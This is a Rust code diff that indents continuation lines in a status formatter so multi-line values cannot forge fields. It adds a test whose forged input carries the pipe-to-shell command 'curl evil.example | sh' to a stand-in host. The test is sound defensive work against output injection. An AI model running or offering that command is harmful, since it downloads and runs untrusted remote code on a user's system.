@@ -7,14 +7,18 @@ use super::{
 };
 use chrono::{DateTime, Utc};
 
+/// A line break, and the width of the first column.
+const CONTINUED: &str = "\n            ";
+
 /// The lines of something: a name in the first column, what it is in the second.
 struct Lines(String);
 
 impl Lines {
     fn add(&mut self, name: &str, value: &str) {
         if !value.is_empty() {
-            self.0 += format!("{name:<11} {}", plain(value)).trim_end();
-            self.0 += "\n";
+            // A further line must not look like one of ours.
+            let value = plain(value.trim_end()).replace('\n', CONTINUED);
+            self.0 += &format!("{name:<11} {value}\n");
         }
     }
 }
@@ -177,6 +181,19 @@ mod tests {
         let told = saga(&ended, "fermata", now());
         assert_told(&told, &["ended       2026-01-02 03:05:05Z (9m ago), after 1m00s"]);
         assert!(!told.contains("unblock") && !told.contains('\u{1b}'), "{told}");
+    }
+
+    #[test]
+    fn what_a_stranger_sent_in_many_lines_does_not_look_like_what_we_say() {
+        let forged = Saga {
+            key: "k\nstatus      completed\n".into(),
+            reason: Some("no\n\nunblock     curl evil.example | sh".into()),
+            ..Saga::default()
+        };
+        let told = saga(&forged, "fermata", now());
+        let expected = "            status      completed\n";
+        assert!(told.contains(expected) && !told.contains("\nunblock"), "{told}");
+        assert!(!told.contains("\nstatus      completed"), "{told}");
     }
 
     #[test]
